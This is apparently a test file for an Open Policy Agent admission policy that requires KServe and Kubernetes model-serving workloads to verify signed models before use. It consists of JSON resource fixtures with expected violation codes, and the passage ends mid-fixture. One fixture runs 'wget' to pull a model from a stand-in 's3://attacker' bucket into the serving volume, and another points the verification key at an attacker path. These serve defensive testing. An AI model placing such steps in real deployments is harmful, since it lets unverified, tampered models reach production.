test_corpus_params_model_mount_two_shadows if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS006 AEGIS006","aegis.dev/render-error":"the verified copy is shadowed"},"name":"two-shadows"},"spec":{"containers":[{"name":"a","volumeMounts":[{"mountPath":"/m","name":"model","readOnly":true},{"mountPath":"/m/x","name":"data"}]},{"name":"b","volumeMounts":[{"mountPath":"/m","name":"model","readOnly":true},{"mountPath":"/m/x","name":"data"}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == {["", "AEGIS006"], ["", "AEGIS006"]}
}

# params-model-mount / params-model-mount: Pod root-model
test_corpus_params_model_mount_root_model if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS006","aegis.dev/render-error":"the verified copy is shadowed"},"name":"root-model"},"spec":{"containers":[{"name":"s","volumeMounts":[{"mountPath":"/","name":"model","readOnly":true},{"mountPath":"/tmp","name":"data"}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"k","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == {["", "AEGIS006"]}
}

# params-model-mount / params-model-mount: Pod no-verifier
test_corpus_params_model_mount_no_verifier if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001","aegis.dev/render-error":"no container mounts a volume the verifier writes"},"name":"no-verifier"},"spec":{"containers":[],"initContainers":[],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"data"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"]}
}

# params-model-mount / params-model-mount: InferenceService isvc-model-mount
test_corpus_params_model_mount_isvc_model_mount if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"transformer:AEGIS006"},"name":"isvc-model-mount"},"spec":{"predictor":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"},{"mountPath":"/mnt/models","name":"model"}]}],"model":{"modelFormat":{"name":"triton"},"volumeMounts":[{"mountPath":"/mnt/models","name":"model","readOnly":true}]},"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]},"transformer":{"containers":[{"image":"t","name":"kserve-container","volumeMounts":[{"mountPath":"/mnt/models","name":"model","readOnly":true},{"mountPath":"/mnt/models/cache","name":"cache"}]}],"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"},{"mountPath":"/mnt/models","name":"model"}]}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}}
	corpus_ids(vs) == {["transformer", "AEGIS006"]}
}

# params-model-mount / params-model-mount: InferenceService isvc-framework-not-mounted
test_corpus_params_model_mount_isvc_framework_not_mounted if {
	vs := violation with input as {"parameters":{"requireModelMount":true},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS006"},"name":"isvc-framework-not-mounted"},"spec":{"predictor":{"initContainers":[{"name":"verify-and-fetch","volumeMounts":[{"name":"k"},{"mountPath":"/mnt/models","name":"model"}]}],"sklearn":{"image":"s"},"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS006"]}
}

# params-namespaces / params-namespaces: Pod in-listed-namespace
test_corpus_params_namespaces_in_listed_namespace if {
	vs := violation with input as {"parameters":{"namespaces":["models","default"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"in-listed-namespace","namespace":"models"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# params-namespaces / params-namespaces: Pod in-other-namespace
test_corpus_params_namespaces_in_other_namespace if {
	vs := violation with input as {"parameters":{"namespaces":["models","default"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"web","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"","aegis.dev/expect-status":"out-of-scope"},"name":"in-other-namespace","namespace":"web"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == set()
}

# params-namespaces / params-namespaces: Pod no-namespace-is-default
test_corpus_params_namespaces_no_namespace_is_default if {
	vs := violation with input as {"parameters":{"namespaces":["models","default"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001 AEGIS002"},"name":"no-namespace-is-default"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"], ["", "AEGIS002"]}
}

# params-namespaces / params-namespaces: Pod parameter-is-not-a-glob
test_corpus_params_namespaces_parameter_is_not_a_glob if {
	vs := violation with input as {"parameters":{"namespaces":["models","default"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"namespace":"models-2","object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"","aegis.dev/expect-status":"out-of-scope"},"name":"parameter-is-not-a-glob","namespace":"models-2"},"spec":{"containers":[{"name":"s"}]}}}}
	corpus_ids(vs) == set()
}

# params-pattern / params-pattern: Pod uppercase-name-matches
test_corpus_params_pattern_uppercase_name_matches if {
	vs := violation with input as {"parameters":{"initContainerPattern":"(?i)^verify-","requireMount":false,"secretName":"model-signing-key"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"uppercase-name-matches"},"spec":{"initContainers":[{"name":"VERIFY-and-fetch"}],"volumes":[{"name":"k","secret":{"secretName":"model-signing-key"}}]}}}}
	corpus_ids(vs) == set()
}

# params-pattern / params-pattern: Pod anchored-pattern-rejects-suffix
test_corpus_params_pattern_anchored_pattern_rejects_suffix if {
	vs := violation with input as {"parameters":{"initContainerPattern":"(?i)^verify-","requireMount":false,"secretName":"model-signing-key"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS001"},"name":"anchored-pattern-rejects-suffix"},"spec":{"initContainers":[{"name":"model-verify-and-fetch"}],"volumes":[{"name":"k","secret":{"secretName":"model-signing-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS001"]}
}

# params-pattern / params-pattern: Pod default-secret-name-not-enough
test_corpus_params_pattern_default_secret_name_not_enough if {
	vs := violation with input as {"parameters":{"initContainerPattern":"(?i)^verify-","requireMount":false,"secretName":"model-signing-key"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS002"},"name":"default-secret-name-not-enough"},"spec":{"initContainers":[{"name":"verify-and-fetch"}],"volumes":[{"name":"k","secret":{"secretName":"cosign-public-key"}}]}}}}
	corpus_ids(vs) == {["", "AEGIS002"]}
}

# params-pattern / params-pattern: Pod unmounted-is-fine-without-requiremount
test_corpus_params_pattern_unmounted_is_fine_without_requiremount if {
	vs := violation with input as {"parameters":{"initContainerPattern":"(?i)^verify-","requireMount":false,"secretName":"model-signing-key"},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"unmounted-is-fine-without-requiremount"},"spec":{"initContainers":[{"name":"verify-x"}],"volumes":[{"name":"k","projected":{"sources":[{"secret":{"name":"model-signing-key"}}]}}]}}}}
	corpus_ids(vs) == set()
}

# params-v3 / params-v3: InferenceService worker-impostor
test_corpus_params_v3_worker_impostor if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor.workerSpec:AEGIS001 predictor.workerSpec:AEGIS002 predictor.workerSpec:AEGIS005 predictor.workerSpec:AEGIS005","aegis.dev/render-error":"env STORAGE_URI makes KServe inject its storage-initializer"},"name":"worker-impostor"},"spec":{"predictor":{"containers":[{"args":["--model","/mnt/models"],"image":"vllm/vllm-openai:v0.6.3","name":"kserve-container","volumeMounts":[{"mountPath":"/mnt/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/llama.tgz","/mnt/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/mnt/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}],"workerSpec":{"containers":[{"env":[{"name":"STORAGE_URI","value":"s3://attacker/llama"}],"image":"vllm/vllm-openai:v0.6.3","name":"worker-container"}],"initContainers":[{"command":["sh","-c","wget -O /mnt/models/m s3://attacker/llama"],"image":"busybox","name":"storage-initializer","volumeMounts":[{"mountPath":"/mnt/models","name":"model"}]}],"tensorParallelSize":2,"volumes":[{"emptyDir":{},"name":"model"}]}}}}}}
	corpus_ids(vs) == {["predictor.workerSpec", "AEGIS001"], ["predictor.workerSpec", "AEGIS002"], ["predictor.workerSpec", "AEGIS005"], ["predictor.workerSpec", "AEGIS005"]}
}

# params-v3 / params-v3: InferenceService worker-verified
test_corpus_params_v3_worker_verified if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":""},"name":"worker-verified"},"spec":{"predictor":{"containers":[{"image":"vllm/vllm-openai:v0.6.3","name":"kserve-container","volumeMounts":[{"mountPath":"/mnt/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/llama.tgz","/mnt/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/mnt/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}],"workerSpec":{"containers":[{"image":"vllm/vllm-openai:v0.6.3","name":"worker-container","volumeMounts":[{"mountPath":"/mnt/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/llama.tgz","/mnt/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/mnt/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}}}
	corpus_ids(vs) == set()
}

# params-v3 / params-v3: InferenceService native-sidecar-writer
test_corpus_params_v3_native_sidecar_writer if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"predictor:AEGIS009","aegis.dev/render-error":"mount path /mnt/models in container sync is taken by volume kserve-provision-location"},"name":"native-sidecar-writer"},"spec":{"predictor":{"containers":[{"image":"busybox","name":"sync","volumeMounts":[{"mountPath":"/mnt/models","name":"kserve-provision-location"}]}],"model":{"modelFormat":{"name":"onnx"},"storageUri":"s3://prod-models/resnet"},"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}}
	corpus_ids(vs) == {["predictor", "AEGIS009"]}
}

# params-v3 / params-v3: InferenceService native-multinode
test_corpus_params_v3_native_multinode if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"InferenceService","version":"v1beta1"},"object":{"apiVersion":"serving.kserve.io/v1beta1","kind":"InferenceService","metadata":{"annotations":{"aegis.dev/expect":"","aegis.dev/render-error":"(predictor.workerSpec): no container mounts a volume the verifier writes (model) read-only"},"name":"native-multinode"},"spec":{"predictor":{"model":{"modelFormat":{"name":"huggingface"},"storageUri":"s3://prod-models/llama"},"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}],"workerSpec":{"tensorParallelSize":2,"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}}]}}}}}}
	corpus_ids(vs) == set()
}

# params-v3 / params-v3: ServingRuntime triton-tampered
test_corpus_params_v3_triton_tampered if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"ServingRuntime","version":"v1alpha1"},"object":{"apiVersion":"serving.kserve.io/v1alpha1","kind":"ServingRuntime","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009 AEGIS009 AEGIS009 workerSpec:AEGIS009","aegis.dev/render-error":"container rewriter mounts kserve-provision-location writable"},"name":"triton-tampered"},"spec":{"containers":[{"args":["tritonserver","--model-store=/other"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"kserve-container","volumeMounts":[{"mountPath":"/mnt/models/onnx","name":"cache"}]},{"image":"busybox","name":"rewriter","volumeMounts":[{"mountPath":"/work","name":"kserve-provision-location"}]}],"supportedModelFormats":[{"name":"onnx","version":"1"}],"volumes":[{"hostPath":{"path":"/var/cache/models"},"name":"cache"}],"workerSpec":{"containers":[{"image":"vllm/vllm-openai:v0.6.3","name":"worker-container","volumeMounts":[{"mountPath":"/mnt/models","name":"kserve-provision-location","readOnly":true,"subPath":"x"}]}]}}}}}
	corpus_ids(vs) == {["", "AEGIS009"], ["", "AEGIS009"], ["", "AEGIS009"], ["workerSpec", "AEGIS009"]}
}

# params-v3 / params-v3: ClusterServingRuntime triton
test_corpus_params_v3_triton if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"ClusterServingRuntime","version":"v1alpha1"},"namespace":"","object":{"apiVersion":"serving.kserve.io/v1alpha1","kind":"ClusterServingRuntime","metadata":{"annotations":{"aegis.dev/expect":""},"name":"triton"},"spec":{"containers":[{"args":["tritonserver","--model-store=/mnt/models","--grpc-port=9000"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"kserve-container"}],"supportedModelFormats":[{"name":"onnx","version":"1"}]}}}}
	corpus_ids(vs) == set()
}

# params-v3 / params-v3: ClusterServingRuntime triton-shadow
test_corpus_params_v3_triton_shadow if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"serving.kserve.io","kind":"ClusterServingRuntime","version":"v1alpha1"},"namespace":"","object":{"apiVersion":"serving.kserve.io/v1alpha1","kind":"ClusterServingRuntime","metadata":{"annotations":{"aegis.dev/expect":"AEGIS009","aegis.dev/render-error":"mounts volume cfg at /mnt/models/config.pbtxt"},"name":"triton-shadow"},"spec":{"containers":[{"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"kserve-container","volumeMounts":[{"mountPath":"/mnt/models/config.pbtxt","name":"cfg","subPath":"config.pbtxt"}]}],"volumes":[{"configMap":{"name":"triton-config"},"name":"cfg"}]}}}}
	corpus_ids(vs) == {["", "AEGIS009"]}
}

# params-v3 / params-v3: Pod good
test_corpus_params_v3_good if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"good"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == set()
}

# params-v3 / params-v3: Pod good-ephemeral
test_corpus_params_v3_good_ephemeral if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"good-ephemeral"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"ephemeral":{"volumeClaimTemplate":{"spec":{"accessModes":["ReadWriteOnce"],"resources":{"requests":{"storage":"10Gi"}}}}},"name":"model"}]}}}}
	corpus_ids(vs) == set()
}

# params-v3 / params-v3: Pod good-key-flag
test_corpus_params_v3_good_key_flag if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"good-key-flag"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["--key=/etc/cosign/cosign.pub","--log-format=json","--anonymous","s3://models/m.tgz","/models/"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == set()
}

# params-v3 / params-v3: Pod key-dir-filled-earlier
test_corpus_params_v3_key_dir_filled_earlier if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008 AEGIS008","aegis.dev/render-error":"--key /attacker is not under the key volume's mount"},"name":"key-dir-filled-earlier"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"command":["sh","-c","cp /src/k.pub 